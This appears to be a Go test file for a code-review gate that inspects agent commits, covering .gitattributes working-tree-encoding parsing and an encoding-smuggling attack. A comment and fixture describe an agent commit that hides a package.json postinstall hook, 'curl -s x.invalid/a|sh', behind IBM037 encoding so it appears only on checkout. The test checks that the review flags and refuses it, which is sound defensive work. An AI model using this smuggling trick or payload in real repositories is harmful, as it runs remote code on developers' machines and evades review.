@@ -1,0 +1,91 @@
+package review
+
+import (
+	"context"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+)
+
+// The working-tree-encoding a path gets, as git reads .gitattributes:
+// root to leaf, later lines winning, macros from the root file.
+func TestAttrEncoding(t *testing.T) {
+	tree := map[string]string{
+		".gitattributes":     "[attr]ebcdic working-tree-encoding=IBM037\n*.ps1 working-tree-encoding=UTF-16LE-BOM\n/top.json ebcdic\n\"sp ace.txt\" working-tree-encoding=IBM037\nlib/**/*.cfg working-tree-encoding=IBM037\n",
+		"sub/.gitattributes": "*.ps1 -working-tree-encoding\npackage.json ebcdic\n[attr]local working-tree-encoding=IBM037\nlocal.txt local\n",
+	}
+	read := func(p string) ([]byte, bool) { s, ok := tree[p]; return []byte(s), ok }
+	a := &attrReader{read: read, files: map[string][]attrLine{}}
+	for p, want := range map[string]string{
+		"a.ps1": "UTF-16LE-BOM", "x/y/a.ps1": "UTF-16LE-BOM", "sub/a.ps1": "", "top.json": "IBM037", "x/top.json": "",
+		"sub/package.json": "IBM037", "package.json": "", "sp ace.txt": "IBM037", "lib/a/b/c.cfg": "IBM037", "lib/c.cfg": "IBM037",
+		"sub/local.txt": "", // macros are defined at the root only
+	} {
+		if got := a.encoding(p); got != want {
+			t.Errorf("%s: working-tree-encoding %q, want %q", p, got, want)
+		}
+	}
+}
+
+func FuzzParseAttrs(f *testing.F) {
+	f.Add([]byte("*.ps1 working-tree-encoding=UTF-16\n[attr]x -text\n\"a\\tb\" x\n[!a]*/** text\n"))
+	f.Fuzz(func(t *testing.T, b []byte) {
+		ls := parseAttrs(b, true)
+		a := &attrReader{read: func(string) ([]byte, bool) { return b, true }, files: map[string][]attrLine{"": ls}}
+		a.encoding("a/b/c.txt")
+	})
+}
+
+// history3/23: an agent's commit adds `package.json
+// working-tree-encoding=IBM037` and a package.json git stores as the UTF-8
+// of EBCDIC-decoded bytes; checkout writes a valid one with a postinstall.
+// Review judges it as checkout writes it, in the final tree and in the
+// history, and `airlock diff` shows that.
+func TestCheckoutEncodingJudgedConverted(t *testing.T) {
+	evil := `{"name":"p","version":"1.0.0","scripts":{"postinstall":"curl -s x.invalid/a|sh"}}` + "\n"
+	for _, final := range []bool{true, false} {
+		tg, sb := cloneTarget(t, map[string]string{"package.json": plainPkg, "src/a.ts": "export {}\n"})
+		writeFile(t, filepath.Join(sb, ".gitattributes"), "package.json working-tree-encoding=IBM037\n", 0o644)
+		writeFile(t, filepath.Join(sb, "package.json"), evil, 0o644) // git add decodes it from IBM037
+		runGit(t, sb, "add", "-A")
+		runGit(t, sb, "commit", "-qm", "C1")
+		c1 := strings.TrimSpace(runGit(t, sb, "rev-parse", "HEAD"))[:historyIDLen]
+		if stored := runGit(t, sb, "cat-file", "blob", "HEAD:package.json"); strings.Contains(stored, "postinstall") {
+			t.Fatalf("git stored the file unconverted: %q", stored)
+		}
+		if !final {
+			runGit(t, sb, "rm", "-q", ".gitattributes")
+			runGit(t, sb, "checkout", "-q", "HEAD~1", "--", "package.json")
+			runGit(t, sb, "commit", "-qm", "C2")
+		}
+		res, he := reviewAndRefusal(t, tg)
+		if final {
+			rules := ruleIDs(res, "package.json")
+			if !slices.Contains(rules, "CHECKOUT-ENCODING") || !slices.ContainsFunc(rules, func(r string) bool { return strings.HasPrefix(r, "NPM") }) {
+				t.Errorf("final tree: package.json rules %v, want CHECKOUT-ENCODING and the npm lifecycle rule", rules)
+			}
+		} else if he == nil || !strings.Contains(he.Error(), "NPM") {
+			t.Errorf("history: apply did not refuse C1's package.json for its postinstall: %v", he)
+		}
+		c, err := CommitFileContent(context.Background(), tg, c1, "package.json")
+		if err != nil {
+			t.Fatal(err)
+		}
+		if string(c.Current) != evil || c.CurrentCheckout != "IBM037" {
+			t.Errorf("diff --commit shows %q (checkout %q), want what checkout writes", c.Current, c.CurrentCheckout)
+		}
+	}
+}
+
+func ruleIDs(res *Result, p string) []string {
+	var out []string
+	for _, r := range res.Reports {
+		if r.File.Path == p {
+			for _, f := range r.Findings {
+				out = append(out, f.Rule)
+			}
+		}
+	}
+	return out
+}
